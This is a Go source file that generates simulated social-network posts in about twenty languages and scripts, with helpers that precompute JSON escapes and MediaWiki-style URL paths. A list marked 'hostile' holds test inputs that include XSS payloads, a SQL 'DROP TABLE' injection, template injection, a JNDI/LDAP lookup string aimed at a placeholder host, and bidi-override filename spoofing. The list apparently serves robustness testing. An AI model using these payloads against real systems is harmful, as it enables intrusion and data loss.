package simulate

import (
	"bytes"
	"encoding/json"
	"fmt"
	"strings"
	"unicode/utf16"
)

// phrase is a piece of text with its JSON encodings, made once so that a frame
// is put together by copying.
type phrase struct {
	raw string
	// plain escapes only what JSON demands (what JSON.stringify writes), html also
	// <, > and & (what Go's encoding/json writes, as Jetstream does), ascii
	// everything outside ASCII, pairs of surrogates included.
	plain, html, ascii string
	// path is raw as a page's URL spells it.
	path string
}

func newPhrase(raw string) phrase {
	return phrase{raw: raw, plain: quoteInner(raw, false), html: quoteInner(raw, true),
		ascii: quoteASCII(raw), path: pagePath(raw)}
}

func newPhrases(prefix string, texts []string) (out []phrase) {
	for _, t := range texts {
		out = append(out, newPhrase(prefix+t))
	}
	return out
}

// quoteInner is the inside of a JSON string.
func quoteInner(s string, html bool) string {
	var b bytes.Buffer
	enc := json.NewEncoder(&b)
	enc.SetEscapeHTML(html)
	if err := enc.Encode(s); err != nil { // a string always encodes
		panic(err)
	}
	out := strings.TrimSuffix(b.String(), "\n")
	return out[1 : len(out)-1]
}

func quoteASCII(s string) string {
	var b strings.Builder
	for _, r := range s {
		switch {
		case r == '"' || r == '\\':
			b.WriteByte('\\')
			b.WriteRune(r)
		case r == '/':
			b.WriteString(`\/`)
		case r >= 0x20 && r < 0x7f:
			b.WriteRune(r)
		case r > 0xffff:
			hi, lo := utf16.EncodeRune(r)
			fmt.Fprintf(&b, `\u%04x\u%04x`, hi, lo)
		default:
			fmt.Fprintf(&b, `\u%04X`, r)
		}
	}
	return b.String()
}

// pagePath percent-encodes a title as MediaWiki does in the address of a page.
func pagePath(s string) string {
	var b strings.Builder
	for i := range len(s) {
		switch c := s[i]; {
		case c == ' ':
			b.WriteByte('_')
		case c >= 'a' && c <= 'z', c >= 'A' && c <= 'Z', c >= '0' && c <= '9', strings.IndexByte("-_.~:/()!*,;@$", c) >= 0:
			b.WriteByte(c)
		default:
			fmt.Fprintf(&b, "%%%02X", c)
		}
	}
	return b.String()
}

// script is a language with what is written in it.
type script struct {
	lang   string
	weight int // of 1,000 posts
	lines  []phrase
}

func newScript(lang string, weight int, lines ...string) *script {
	return &script{lang, weight, newPhrases("", lines)}
}

func (s *script) share() int { return s.weight }

// scripts is what people on a social network write: most scripts in use, and
// what breaks readers (bidi controls, stacked marks, markup, control characters).
var scripts = []*script{
	newScript("en", 420,
		"good morning, the river is high today", "I can't believe it's already Sunday",
		"does anyone know a decent bakery near the station?", "new blog post: what a log is, and why it isn't a queue",
		"reading on the train again, missed my stop again", "the cat has opinions about this keyboard",
		"hot take: soup is a beverage", "five years ago we shipped the first version of this thing. wild.",
		"watching the rain and counting events", "please stop putting pineapple in my mentions",
		"it's the small things: a quiet inbox, a green build", "so. that happened.",
		"thread on partitions, keys and why your order matters 1/7", "lol", "this", "thank you all for the kind words ❤️"),
	newScript("ja", 215,
		"おはようございます、今日もいい天気ですね", "川沿いを散歩してきました", "新しい記事を書きました。読んでください!",
		"ねむい……コーヒーが足りない", "推しの新曲が最高すぎる件", "「ログ」は「列」ではない、という話", "明日は早起きするぞ(しない)", "ラーメン食べたい🍜"),
	newScript("pt", 90,
		"bom dia, pessoal! hoje o dia começou cedo", "não acredito que já é domingo", "coração apertado, mas é isso aí",
		"alguém mais acordado a esta hora?", "que jogo foi esse, meu Deus"),
	newScript("de", 55,
		"Guten Morgen aus dem verschneiten Süden", "Das Wehr am Fluss läuft über – schöne Grüße",
		"Wer hat eigentlich die Straßenbahn erfunden?", "Donaudampfschifffahrtsgesellschaftskapitän, ganz im Ernst"),
	newScript("es", 45, "¡buenos días a todas y a todos!", "mañana será otro día", "el niño y la niña comen piña", "¿alguien me explica esto, por favor?"),
	newScript("fr", 25, "déjà l'été ? où est passé l'hiver…", "ça va être une très longue journée", "un œuf, deux œufs, cœur léger"),
	newScript("ko", 25, "오늘 하루도 수고했어요", "강가를 따라 걸었다", "이 노래 진짜 좋다 ㅠㅠ"),
	newScript("zh", 25, "今天的天气真不错", "日志不是队列", "週末愉快,大家都吃了嗎?", "𠮷野家的牛丼還是那個味道"),
	newScript("ru", 15, "доброе утро, друзья", "сегодня снова идёт дождь", "ёлки-палки, опять понедельник"),
	newScript("uk", 10, "добрий ранок, Україно", "їжак під'їхав на ґанок"),
	newScript("ar", 15, "صباح الخير يا أصدقاء", "اليوم هو يوم جميل جدًا", "السجل ليس طابورًا (log ≠ queue) 123"),
	newScript("he", 6, "בוקר טוב לכולם", "היום יורד גשם, סוף סוף"),
	newScript("fa", 6, "صبح به\u200cخیر دوستان", "می\u200cخواهم بخوابم"),
	newScript("hi", 8, "सुप्रभात दोस्तों", "आज मौसम बहुत अच्छा है", "क्षत्रिय ज्ञान"),
	newScript("th", 10, "สวัสดีตอนเช้า", "วันนี้ฝนตกหนักมากเลย", "กินข้าวหรือยัง"),
	newScript("vi", 6, "chào buổi sáng mọi người", "Tie\u0302\u0301ng Vie\u0323\u0302t co\u0301 da\u0302\u0301u"),
	newScript("tr", 6, "günaydın, İstanbul'da ışıl ışıl bir sabah"),
	newScript("el", 4, "καλημέρα σε όλους", "Σίσυφος, ξανά από την αρχή"),
	newScript("", 6, "👩\u200d👩\u200d👧\u200d👦 family day out 👨🏽\u200d💻👩🏿\u200d🚀", "🏳️\u200d🌈🏳️\u200d⚧️🏴\u200d☠️", "🇯🇵🇧🇷🇩🇪🇺🇦", "❤️\u200d🔥 1️⃣2️⃣3️⃣ ☕️"),
	newScript("en", 8, // hostile
		"<script>alert('xss')</script>", `"><img src=x onerror=alert(1)>`, "'; DROP TABLE posts; --", "{{constructor.constructor('x')()}}",
		"\u202egnp.exe\u202c totally a picture", "\u2066isolated\u2069 \u200f\u200e marks \u061c", "Z\u0351\u036b\u0343a\u0309\u0343l\u0342\u0349g\u0333o\u0322\u031b text",
		"line one\nline two\r\n\ttabbed", "back\\slash \"quoted\" /slash/", "sep\u2028para\u2029end\ufeff", "nul\x00 bell\x07 esc\x1b[31m del\x7f",
		"\U000e0067\U000e0062 tags \u200b\u200c\u200d zero width", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "${jndi:ldap://example.invalid/a} %s%n %00"),
}

var scriptTotal = total(scripts)

func pickScript(r *rng) *script { return scripts[pick(scripts, r.below(scriptTotal))] }

// line is one of the script's lines.
func (s *script) line(r *rng) *phrase { return &s.lines[r.below(len(s.lines))] }

// words name people and sites.
var words = []string{"weir", "river", "otter", "lantern", "maple", "quartz", "ember", "pixel", "harbor", "violet", "cedar", "comet",
	"tundra", "saffron", "willow", "cobalt", "meadow", "falcon", "juniper", "ripple", "sable", "thistle", "walnut", "zephyr"}
